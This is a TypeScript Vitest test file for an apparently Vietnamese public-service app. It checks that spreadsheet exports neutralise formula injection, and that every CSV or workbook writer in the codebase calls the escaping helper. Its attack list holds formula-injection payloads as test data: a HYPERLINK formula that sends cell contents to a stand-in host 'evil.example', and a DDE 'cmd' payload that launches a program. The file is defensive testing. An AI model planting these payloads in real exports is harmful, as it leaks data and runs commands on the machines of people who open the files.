import { readdirSync, readFileSync, statSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { spreadsheetCell } from '@motcua/core';
import { describe, expect, it } from 'vitest';

/**
 * #15 item 9: names staff can edit (counter labels, staff, procedures, agencies) reached CSV and
 * Excel exports unescaped (`=HYPERLINK(...)`, `=1+1`, `@SUM`, `+cmd`). Every export the product
 * writes passes each cell through one helper; this test runs the helper on the attacks and finds
 * every place that writes a CSV or a workbook, so that a new export cannot skip it.
 */
const root = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../../../..');

function sources(dir: string): string[] {
  return readdirSync(dir).flatMap((name) => {
    const full = path.join(dir, name);
    if (['node_modules', 'dist', 'test-results', '.data'].includes(name)) return [];
    if (statSync(full).isDirectory()) return sources(full);
    return /\.(ts|vue|mjs)$/.test(name) && !/\.(spec|int-spec)\.ts$/.test(name) ? [full] : [];
  });
}

describe('exports never carry a formula', () => {
  it('cells starting with = + - @ tab or CR are neutralised, the rest is untouched', () => {
    const attacks = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm")', '=1+1', '@SUM(A1:A9)', "+cmd|' /C calc'!A0", '-1+2', '\t=1+1', '\r=1+1'];
    for (const a of attacks) {
      const cell = spreadsheetCell(a);
      expect(cell).toBe(`'${a}`);
      expect(String(cell)).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(spreadsheetCell('Phường An Xuyên')).toBe('Phường An Xuyên');
    expect(spreadsheetCell(-3)).toBe(-3);
  });

  it('every CSV or workbook the product writes goes through the one helper', () => {
    const writers = [...sources(path.join(root, 'apps')), ...sources(path.join(root, 'packages')), ...sources(path.join(root, 'scripts'))].filter((f) =>
      /Papa\.unparse|\.addRow\(|type: 'text\/csv|spreadsheetml|writeFile(Sync)?\([^)]*\.csv/.test(readFileSync(f, 'utf8')),
    );
    expect(writers.length).toBeGreaterThan(0);
    for (const f of writers) expect({ file: path.relative(root, f), usesHelper: readFileSync(f, 'utf8').includes('spreadsheetCell') }).toEqual({ file: path.relative(root, f), usesHelper: true });
  });
});
